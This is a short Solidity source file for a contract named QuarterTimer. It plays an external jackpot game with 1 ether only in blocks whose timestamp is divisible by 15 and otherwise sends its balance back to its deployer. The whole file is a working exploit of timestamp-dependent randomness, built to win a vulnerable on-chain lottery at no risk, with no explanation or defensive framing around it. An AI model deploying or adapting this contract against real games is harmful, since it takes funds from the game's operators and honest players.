pragma solidity 0.4.25;

interface IJackpot {
    function play() external payable;
}

/// Plays only in a block whose time wins; otherwise hands the stake straight back.
contract QuarterTimer {
    address private boss;

    constructor() public {
        boss = msg.sender;
    }

    function tryPlay(IJackpot game) public payable {
        if (now % 15 == 0) {
            game.play.value(1 ether)();
        }
        boss.transfer(address(this).balance);
    }

    function () public payable {}
}
